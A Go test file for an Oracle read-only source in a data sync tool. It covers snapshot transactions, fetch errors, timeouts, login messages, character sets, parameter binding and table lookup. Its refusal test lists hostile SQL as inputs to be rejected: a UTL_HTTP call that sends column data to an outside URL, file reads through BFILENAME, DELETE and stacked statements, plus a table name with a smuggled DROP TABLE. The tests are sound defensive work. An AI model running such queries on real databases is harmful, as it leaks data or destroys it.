package oracle_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/registrar-sync/registrar/internal/oracletest"
	"github.com/registrar-sync/registrar/internal/value"
	"github.com/registrar-sync/registrar/providers"
)

var code = []oracletest.Column{varchar("CODE")}

// numbered serves so many rows: k1, k2, …
func numbered(rows int) func([]any) bool {
	n := 0
	return func(row []any) bool {
		n++
		row[0] = fmt.Sprint("k", n)
		return n <= rows
	}
}

func TestASnapshotIsOneReadOnlyTransactionOnOneConnection(t *testing.T) {
	t.Parallel()
	server := serve(t, oracletest.Config{}, always(code, []any{"a"}))
	from := snapshot(t, open(t, attributes(server)))
	for range 3 {
		if _, err := all(t.Context(), from, providers.Query{SQL: "SELECT code FROM t"}); err != nil {
			t.Fatal(err)
		}
	}
	if err := from.Close(); err != nil {
		t.Fatal(err)
	}
	got := server.Statements()
	if len(got) != 6 || server.Sessions() != 1 {
		t.Fatalf("%d sessions got %q", server.Sessions(), texts(server))
	}
	for _, setting := range []string{
		"NLS_NUMERIC_CHARACTERS = '.,'", "NLS_DATE_FORMAT = 'YYYY-MM-DD HH24:MI:SS'", "NLS_TIMESTAMP_FORMAT = ", "NLS_TIMESTAMP_TZ_FORMAT = ",
		"NLS_SORT = BINARY", "NLS_COMP = BINARY", "TIME_ZONE = DBTIMEZONE", "NLS_CALENDAR = 'GREGORIAN'",
	} {
		if !strings.HasPrefix(got[0].SQL, "ALTER SESSION SET ") || !strings.Contains(got[0].SQL, setting) {
			t.Errorf("%q lacks %s", got[0].SQL, setting)
		}
	}
	// What is asked next fixes the state that all reads see.
	if got[1].SQL != "SET TRANSACTION READ ONLY" || !strings.HasPrefix(got[2].SQL, "SELECT") {
		t.Errorf("the transaction begins with %q and %q", got[1].SQL, got[2].SQL)
	}
	for _, s := range got {
		// Either would begin another one.
		if s.AutoCommit || s.SQL == "COMMIT" || s.SQL == "ROLLBACK" {
			t.Errorf("%q, with a commit: %t", s.SQL, s.AutoCommit)
		}
	}
}

// What a query before left on the connection must never be taken for the answer to this one.
func TestAnAnswerThatComesTooLateReachesNobody(t *testing.T) {
	t.Parallel()
	late := make(chan struct{})
	server := serve(t, oracletest.Config{}, func(s oracletest.Statement) oracletest.Result {
		if strings.Contains(s.SQL, "slow") {
			result := table(code, []any{"of the slow query"})
			result.Hold = late
			return result
		}
		return table(code, []any{"right"})
	})
	source := open(t, attributes(server, providers.Attributes{"read_timeout": int64(1)}))
	from := snapshot(t, source)
	_, err := all(t.Context(), from, providers.Query{SQL: "SELECT code FROM slow"})
	wantError(t, err, "the server sent nothing for 1s (read_timeout)")
	close(late)
	for range 3 {
		got, err := all(t.Context(), from, providers.Query{SQL: "SELECT code FROM fast"})
		wantError(t, err, "the snapshot cannot be read any more")
		same(t, got, nil)
	}
	got, err := all(t.Context(), snapshot(t, source), providers.Query{SQL: "SELECT code FROM fast"})
	if err != nil {
		t.Fatal(err)
	}
	same(t, got, []string{"text right"})
}

func TestFaultsInMidFetchAreErrorsAndNeverTheEndOfTheRows(t *testing.T) {
	t.Parallel()
	const rows = 2000
	stuck := make(chan struct{})
	for _, c := range []struct {
		name    string
		result  oracletest.Result
		markers bool
		want    string
	}{
		{"an error of the server's", oracletest.Result{FailAfter: 1100, Fail: &oracletest.Error{Code: 1555, Text: "snapshot too old: rollback segment number 9 with name \"_SYS\" too small"}}, false, "ORA-01555: snapshot too old: rollback segment number 9 with name … too small; the server no longer keeps"},
		{"an error out of band", oracletest.Result{FailAfter: 1100, Fail: &oracletest.Error{Code: 1722, Text: "invalid number"}}, true, "ORA-01722: invalid number"},
		{"an error in the first answer", oracletest.Result{FailAfter: 3, Fail: &oracletest.Error{Code: 1722, Text: "invalid number"}}, true, "ORA-01722: invalid number"},
		{"a dropped connection", oracletest.Result{DropAfter: 1100}, false, "the connection to the server was lost"},
		{"a dropped connection in the first answer", oracletest.Result{DropAfter: 3}, false, "the connection to the server was lost"},
		{"an answer without rows", oracletest.Result{EndEarly: 1000}, false, "without saying that there are no more rows"},
		{"an answer with too few rows", oracletest.Result{EndEarly: 1100}, false, "without saying that there are no more rows"},
		{"a server that stops answering", oracletest.Result{Hold: stuck, HoldAfter: 1100}, false, "the server sent nothing for 1s"},
	} {
		for _, typ := range []oracletest.Type{oracletest.Varchar2, oracletest.Clob} {
			t.Run(c.name, func(t *testing.T) {
				t.Parallel()
				server := serve(t, oracletest.Config{Markers: c.markers}, func(oracletest.Statement) oracletest.Result {
					result := c.result
					result.Columns, result.Next = []oracletest.Column{{Name: "CODE", Type: typ, Size: 10}}, numbered(rows)
					return result
				})
				from := snapshot(t, open(t, attributes(server, providers.Attributes{"read_timeout": int64(1)})))
				got, err := all(t.Context(), from, providers.Query{SQL: "SELECT code FROM t"})
				wantError(t, err, c.want)
				if len(got) >= rows {
					t.Errorf("%d rows", len(got))
				}
				for i := range got {
					if got[i] != fmt.Sprint("text k", i+1) {
						t.Fatalf("row %d is %s", i+1, got[i])
					}
				}
				_, err = all(t.Context(), from, providers.Query{SQL: "SELECT code FROM t"})
				wantError(t, err, "the snapshot cannot be read any more")
			})
		}
	}
}

func TestALinkDroppedBeforeTheCursorIsClosedRunsNothingTwice(t *testing.T) {
	t.Parallel()
	server := serve(t, oracletest.Config{}, func(oracletest.Statement) oracletest.Result {
		result := table(code, []any{"a"}, []any{"b"})
		result.DropAtClose = true
		return result
	})
	source := open(t, attributes(server))
	from := snapshot(t, source)
	got, err := all(t.Context(), from, providers.Query{SQL: "SELECT code FROM t"})
	wantError(t, err, "the connection to the server was lost")
	same(t, got, []string{"text a", "text b"})
	_, err = all(t.Context(), from, providers.Query{SQL: "SELECT code FROM t"})
	wantError(t, err, "the snapshot cannot be read any more")
	if n := strings.Count(strings.Join(texts(server), "\n"), "FROM t"); n != 1 || server.Sessions() != 1 {
		t.Errorf("run %d times, in %d sessions", n, server.Sessions())
	}
}

// LOBs come with their rows: asked for one by one, each would cost a round trip.
func TestRowsAreAskedForSoManyAtATime(t *testing.T) {
	t.Parallel()
	for _, typ := range []oracletest.Type{oracletest.Varchar2, oracletest.Clob} {
		for _, c := range []struct {
			change  providers.Attributes
			fetches int
		}{{nil, 4}, {providers.Attributes{"prefetch_rows": int64(100)}, 20}, {providers.Attributes{"prefetch_rows": int64(25)}, 76}} {
			server := serve(t, oracletest.Config{}, func(oracletest.Statement) oracletest.Result {
				return oracletest.Result{Columns: []oracletest.Column{{Name: "CODE", Type: typ, Size: 10}}, Next: numbered(2000)}
			})
			from := snapshot(t, open(t, attributes(server, c.change)))
			before := server.Fetches()
			got, err := all(t.Context(), from, providers.Query{SQL: "SELECT code FROM t"})
			if fetches := server.Fetches() - before; err != nil || len(got) != 2000 || fetches != c.fetches {
				t.Errorf("%v: %d rows by %d fetches, expected %d: %v", c.change, len(got), fetches, c.fetches, err)
			}
		}
	}
}

func TestCancelEndsWhateverTheDriverWaitsFor(t *testing.T) {
	t.Parallel()
	for _, after := range []int{0, 5, 1100} {
		stuck := make(chan struct{})
		reached := make(chan struct{}, 1)
		server := serve(t, oracletest.Config{}, func(oracletest.Statement) oracletest.Result {
			next := numbered(2000)
			if after == 0 {
				reached <- struct{}{}
			}
			return oracletest.Result{Columns: code, Hold: stuck, HoldAfter: after, Next: func(row []any) bool {
				more := next(row)
				if row[0] == fmt.Sprint("k", after) {
					reached <- struct{}{}
				}
				return more
			}}
		})
		ctx, cancel := context.WithCancel(t.Context())
		from := snapshot(t, open(t, attributes(server)))
		go func() {
			<-reached
			cancel()
		}()
		_, err := all(ctx, from, providers.Query{SQL: "SELECT code FROM t"})
		if !errors.Is(err, context.Canceled) {
			t.Errorf("held after %d rows: %v", after, err)
		}
	}
}

func TestTheDeadlineOfALogin(t *testing.T) {
	t.Parallel()
	mute := oracletest.New(t, oracletest.Config{Mute: true})
	_, err := open(t, attributes(mute, providers.Attributes{"connect_timeout": int64(1)})).Snapshot(t.Context())
	wantError(t, err, "the login was not over within 1s (connect_timeout)")

	ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer cancel()
	if _, err := open(t, attributes(mute)).Snapshot(ctx); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("%v", err)
	}
}

func TestLoginsThatFailSayWhatToDo(t *testing.T) {
	t.Parallel()
	server := serve(t, oracletest.Config{}, always(code))
	down, err := (&net.ListenConfig{}).Listen(t.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := int64(down.Addr().(*net.TCPAddr).Port)
	_ = down.Close()
	for _, c := range []struct {
		change providers.Attributes
		want   []string
	}{
		{providers.Attributes{"password": "Secret81723"}, []string{"ORA-01017", "check user and password"}},
		{providers.Attributes{"user": "nobody"}, []string{"ORA-01017"}},
		{providers.Attributes{"service": "NOPE"}, []string{"ORA-12514", "does not know this service", "lsnrctl"}},
		{providers.Attributes{"port": port}, []string{"nothing listens on 127.0.0.1:", "lsnrctl status"}},
		{providers.Attributes{"tls": true, "connect_timeout": int64(1)}, []string{"the login was not over within 1s (connect_timeout)", "does it speak TLS on this port?"}},
		{providers.Attributes{"host": "no-such-host.invalid"}, []string{`the host "no-such-host.invalid" is not known`}},
	} {
		source := open(t, attributes(server, c.change))
		_, err := source.Snapshot(t.Context())
		wantError(t, err, append(c.want, "open a snapshot of ")...)
		if err != nil && (strings.Contains(err.Error(), "Secret81723") || strings.Contains(err.Error(), "tiger")) {
			t.Errorf("it holds the password: %v", err)
		}
	}
	locked := serve(t, oracletest.Config{Refuse: &oracletest.Error{Code: 28000, Text: "the account is locked"}}, always(code))
	_, err = open(t, attributes(locked)).Snapshot(t.Context())
	wantError(t, err, "ORA-28000: the account is locked; have it unlocked")
	snapshot(t, open(t, attributes(server, providers.Attributes{"service": nil, "sid": "XEPDB1"})))
}

func TestErrorsPointIntoTheQueryAsItIsWritten(t *testing.T) {
	t.Parallel()
	for _, markers := range []bool{false, true} {
		for _, charset := range []oracletest.Charset{oracletest.AL32UTF8, oracletest.WE8ISO8859P15} {
			server := serve(t, oracletest.Config{Charset: charset, Markers: markers}, func(s oracletest.Statement) oracletest.Result {
				text := s.SQL
				before, _, _ := strings.Cut(text, "lable")
				octets := len(before)
				if charset == oracletest.WE8ISO8859P15 {
					octets = len([]rune(before))
				}
				return oracletest.Result{Err: &oracletest.Error{Code: 904, Text: `"LABLE": invalid identifier`, Position: octets}}
			})
			_, err := read(t, server, "SELECT code, 'é€' AS e, -- été\n  :parameter AS p,\n lable FROM t", providers.Param{Name: "parameter", Value: value.OfInt(1)})
			wantError(t, err, `run the query (line 3, column 2 of the query): ORA-00904: "LABLE": invalid identifier`)
		}
	}
}

// The driver would send a question mark.
func TestCharactersThatTheDatabaseLacksAreRefused(t *testing.T) {
	t.Parallel()
	server := serve(t, oracletest.Config{Charset: oracletest.WE8ISO8859P15}, always(code, []any{"a"}))
	const query = "SELECT code FROM t\nWHERE label = :label"
	label := func(text string) providers.Param { return providers.Param{Name: "label", Value: value.OfText(text)} }
	if _, err := read(t, server, query, label("œuvre né €")); err != nil {
		t.Error(err)
	}
	_, err := read(t, server, query, label("Ōsaka"))
	wantError(t, err, "bind :label: the database's character set WE8ISO8859P15 has no U+014C")
	_, err = read(t, server, "SELECT code -- Ō\nFROM t WHERE label = 'Ōsaka'")
	wantError(t, err, "run the query (line 2, column 23 of the query): the database's character set WE8ISO8859P15 has no U+014C")
	_, err = all(t.Context(), snapshot(t, open(t, attributes(server))), providers.Query{Table: "Ōsaka"})
	if err == nil {
		t.Error("a table of such a name was found")
	}
	for _, s := range texts(server) {
		if strings.Contains(s, "saka") || strings.Contains(s, "?") {
			t.Errorf("the server got %q", s)
		}
	}
	ascii := serve(t, oracletest.Config{Charset: oracletest.US7ASCII}, always(code, []any{"a"}))
	_, err = read(t, ascii, query, label("é"))
	wantError(t, err, "US7ASCII has no U+00E9")
	unicode := serve(t, oracletest.Config{}, always(code, []any{"a"}))
	if _, err := read(t, unicode, query, label("Ōsaka 🗼")); err != nil {
		t.Error(err)
	}
}

func TestParametersAreBoundAsWhatTheyAre(t *testing.T) {
	t.Parallel()
	decimal := func(text string) value.Value {
		v, err := value.ParseDecimal(text)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	const nines = "99999999999999999999999999999999999999"
	for _, c := range []struct {
		v    value.Value
		want string
	}{
		{value.OfText("né"), "SELECT :1 AS p FROM t <- [né]"},
		{value.OfText(""), "SELECT :1 AS p FROM t <- [<nil>]"},
		{value.Value{}, "SELECT :1 AS p FROM t <- [<nil>]"},
		{value.OfBool(true), "SELECT :1 AS p FROM t <- [1]"},
		{value.OfInt(-1200), "SELECT :1 AS p FROM t <- [-1200]"},
		{value.OfInt(0), "SELECT :1 AS p FROM t <- [0]"},
		{decimal("0.05"), "SELECT :1 AS p FROM t <- [0.05]"},
		{decimal("-0.005"), "SELECT :1 AS p FROM t <- [-0.005]"},
		{decimal("12.50"), "SELECT :1 AS p FROM t <- [12.5]"},
		{decimal("100"), "SELECT :1 AS p FROM t <- [100]"},
		{decimal(nines), "SELECT :1 AS p FROM t <- [" + nines + "]"},
		{decimal("-" + nines[:20] + "." + nines[20:]), "SELECT :1 AS p FROM t <- [-" + nines[:20] + "." + nines[20:] + "]"},
		{value.OfFloat(0.1), "SELECT :1 AS p FROM t <- [0.1]"},
		{value.OfBytes([]byte{1, 255}), "SELECT :1 AS p FROM t <- [[1 255]]"},
		{value.OfDate(at("2026-03-29 00:00:00")), "SELECT TO_DATE(:1,'YYYY-MM-DD HH24:MI:SS') AS p FROM t <- [2026-03-29 00:00:00]"},
		{value.OfDateTime(at("2026-03-29 02:30:00")), "SELECT TO_DATE(:1,'YYYY-MM-DD HH24:MI:SS') AS p FROM t <- [2026-03-29 02:30:00]"},
		{value.OfDateTime(at("2026-03-29 02:30:00.5")), "SELECT TO_TIMESTAMP(:1,'YYYY-MM-DD HH24:MI:SS.FF9') AS p FROM t <- [2026-03-29 02:30:00.500000000]"},
		{value.OfInstant(at("2026-03-29 02:30:00.5")), "SELECT TO_TIMESTAMP_TZ(:1,'YYYY-MM-DD HH24:MI:SS.FF9 TZH:TZM') AS p FROM t <- [2026-03-29 02:30:00.500000000 +00:00]"},
	} {
		server := serve(t, oracletest.Config{}, always(code))
		if _, err := read(t, server, "SELECT :p AS p FROM t", providers.Param{Name: "p", Value: c.v}); err != nil {
			t.Errorf("%s: %v", c.v.Text(), err)
			continue
		}
		got := texts(server)
		same(t, got[len(got)-1:], []string{c.want})
	}
	for _, v := range []value.Value{decimal("NaN"), decimal("9" + nines), value.Infinite(value.Date, false), value.OfDateTime(time.Date(-5, 1, 1, 0, 0, 0, 0, time.UTC))} {
		server := serve(t, oracletest.Config{}, always(code))
		_, err := read(t, server, "SELECT :p AS p FROM t", providers.Param{Name: "p", Value: v})
		wantError(t, err, "bind :p: ")
	}
}

func TestLowerBoundsAreComparedWithTheColumnAsItIs(t *testing.T) {
	t.Parallel()
	server := serve(t, oracletest.Config{}, always([]oracletest.Column{{Name: "CHANGED", Type: oracletest.Date}}))
	from := snapshot(t, open(t, attributes(server)))
	_, err := all(t.Context(), from, providers.Query{SQL: "SELECT changed FROM t", From: &providers.LowerBound{Column: "changed", Value: value.OfDateTime(at("2026-03-29 02:30:00"))}})
	if err != nil {
		t.Fatal(err)
	}
	got := texts(server)
	same(t, got[len(got)-1:], []string{`SELECT * FROM (SELECT changed FROM t) registrar_query WHERE registrar_query."CHANGED" >= TO_DATE(:1,'YYYY-MM-DD HH24:MI:SS') OR registrar_query."CHANGED" IS NULL <- [2026-03-29 02:30:00]`})
}

// A query with two columns of one name can be read, but not filtered.
func TestQueriesThatCannotBeFilteredCanBeRead(t *testing.T) {
	t.Parallel()
	server := serve(t, oracletest.Config{}, func(s oracletest.Statement) oracletest.Result {
		if strings.Contains(s.SQL, "registrar_query") {
			return oracletest.Result{Err: &oracletest.Error{Code: 918, Text: "column ambiguously defined", Position: 7}}
		}
		return table(code, []any{"a"})
	})
	from := snapshot(t, open(t, attributes(server)))
	query := providers.Query{SQL: "SELECT code FROM t", From: &providers.LowerBound{Column: "code", Value: value.OfInt(1)}}
	if _, err := all(t.Context(), from, query); !errors.Is(err, providers.ErrNotComparable) {
		t.Errorf("%v", err)
	}
	query.From = nil
	got, err := all(t.Context(), from, query)
	if err != nil {
		t.Fatal(err)
	}
	same(t, got, []string{"text a"})
}

func TestQueriesThatDoMoreThanReadAreRefused(t *testing.T) {
	t.Parallel()
	server := serve(t, oracletest.Config{}, always(code))
	from := snapshot(t, open(t, attributes(server)))
	before := len(server.Statements())
	for query, want := range map[string]string{
		"SELECT q'[it's]' FROM t":                                               "it holds a literal q'…'",
		"SELECT Q'[a' || :p || ']' FROM t":                                      "it holds a literal Q'…'",
		"SELECT nq'{x}' FROM t":                                                 "it holds a literal nq'…'",
		"SELECT 'a' || Nq'!x!' FROM t":                                          "it holds a literal Nq'…'",
		"SELECT /* q'x' */ \"q\" || q'(x)' FROM t":                              "it holds a literal q'…'",
		"SELECT s.NEXTVAL FROM dual":                                            "NEXTVAL",
		`SELECT s."NEXTVAL" FROM dual`:                                          "NEXTVAL",
		`SELECT "S" . /* */ "NEXTVAL" FROM dual`:                                "NEXTVAL",
		"SELECT utl_http.request('http://example.org/'||code) FROM t":           "it uses UTL_HTTP",
		`SELECT SYS."UTL_HTTP".REQUEST('http://example.org/') FROM t`:           "it uses UTL_HTTP",
		"SELECT UTL_INADDR /**/ .GET_HOST_ADDRESS('example.org') FROM dual":     "it uses UTL_INADDR",
		"SELECT HTTPURITYPE('http://example.org/').getclob() FROM dual":         "it uses HTTPURITYPE",
		`SELECT "HTTPURITYPE" ('http://example.org/').getclob() FROM dual`:      "it uses HTTPURITYPE",
		"SELECT sys.dbms_pipe.receive_message('x') FROM dual":                   "it uses DBMS_PIPE",
		"SELECT DBMS_LOCK.REQUEST(1) FROM dual":                                 "it uses DBMS_LOCK",
		"SELECT dbms_aqadm.x FROM dual":                                         "it uses DBMS_AQADM",
		"SELECT dbms_xmlgen.getxml('SELECT s.nextval FROM dual') FROM dual":     "it uses DBMS_XMLGEN",
		"SELECT DBMS_LOB.SUBSTR(BFILENAME('D', 'f'), 9, 1) FROM dual":           "it calls BFILENAME",
		`SELECT "BFILENAME"('D', 'f') FROM dual`:                                "it calls BFILENAME",
		"SELECT * FROM EXTERNAL ((a NUMBER) TYPE ORACLE_LOADER LOCATION ('f'))": "it contains EXTERNAL (",
		"SELECT * FROM t EXTERNAL MODIFY (LOCATION ('f'))":                      "EXTERNAL MODIFY",
		"SELECT * FROM t SAMPLE (10)":                                           "reads some of the rows",
		"SELECT * FROM t sample block(10)":                                      "reads some of the rows",
		"DELETE FROM t":                                                         "it begins with DELETE",
		"SELECT 1 FROM t; DELETE FROM t":                                        "more than one statement",
		"WITH FUNCTION f RETURN INT IS BEGIN RETURN 1; E":                       "more than one statement",
		"BEGIN NULL; END;":                                                      "it begins with BEGIN",
	} {
		_, err := from.Read(t.Context(), providers.Query{SQL: query})
		wantError(t, err, want)
	}
	if got := len(server.Statements()); got != before {
		t.Errorf("the server got %q", texts(server)[before:])
	}
	for _, query := range []string{
		"SELECT 'q' FROM t", "SELECT 'faq''s' AS \"q\" FROM t", "SELECT faq FROM t -- q'x'\n", "SELECT x$q#, v$session.sid FROM t@elsewhere", "SELECT N'é' FROM t", "SELECT 'it''s q' || 'x' FROM t",
		`SELECT a AS "NEXTVAL", "BFILENAME", sample, external, utl_http FROM t sample WHERE 'DBMS_LOCK.REQUEST(1)' = "EXTERNAL"`, "SELECT DBMS_LOB.SUBSTR(a, 9, 1), UTL_RAW.CAST_TO_RAW(b) FROM t -- UTL_HTTP.REQUEST(",
	} {
		rows, err := from.Read(t.Context(), providers.Query{SQL: query})
		if err != nil {
			t.Fatalf("%s: %v", query, err)
		}
		if err := rows.Next(make([]value.Value, 1)); !errors.Is(err, io.EOF) {
			t.Errorf("%s: %v", query, err)
		}
		_ = rows.Close()
	}
}

func TestTablesAreFoundByTheirNames(t *testing.T) {
	t.Parallel()
	relations := [][]any{{"SCOTT", "ROOM"}, {"SCOTT", "Room"}, {"APOGEE", "ETUDIANT"}, {"PUBLIC", "SHARED"}, {"SCOTT", "A.B"}}
	server := serve(t, oracletest.Config{}, func(s oracletest.Statement) oracletest.Result {
		switch columns := []oracletest.Column{varchar("OWNER"), varchar("NAME")}; {
		case strings.Contains(s.SQL, "CURRENT_SCHEMA') FROM DUAL"):
			return table(code, []any{"SCOTT"})
		case strings.Contains(s.SQL, "FROM ALL_TABLES") && len(s.Binds()) > 0:
			var found [][]any
			for _, r := range relations {
				owner, name := false, false
				for _, bound := range s.Binds() {
					owner, name = owner || bound == r[0], name || bound == r[1]
				}
				if owner && name {
					found = append(found, r)
				}
			}
			return table(columns, found...)
		case strings.Contains(s.SQL, "FROM ALL_TABLES"):
			return table(columns, relations[0], relations[2])
		default:
			return table(code, []any{s.SQL})
		}
	})
	from := snapshot(t, open(t, attributes(server)))
	for name, want := range map[string]string{
		"room": `"SCOTT"."ROOM"`, "ROOM": `"SCOTT"."ROOM"`, "Room": `"SCOTT"."Room"`, "apogee.etudiant": `"APOGEE"."ETUDIANT"`, "APOGEE.ETUDIANT": `"APOGEE"."ETUDIANT"`,
		"shared": `"SHARED"`, "A.B": `"SCOTT"."A.B"`,
	} {
		got, err := all(t.Context(), from, providers.Query{Table: name})
		if err != nil {
			t.Fatal(err)
		}
		same(t, got, []string{"text SELECT * FROM " + want})
	}
	for name, want := range map[string]string{"rom": `did you mean "ROOM"?`, "apogee.etudiants": `did you mean "APOGEE.ETUDIANT"?`, "x\"; DROP TABLE y": `there is`} {
		_, err := from.Read(t.Context(), providers.Query{Table: name})
		wantError(t, err, want)
		if !errors.Is(err, providers.ErrNoTable) {
			t.Errorf("%v", err)
		}
	}
}
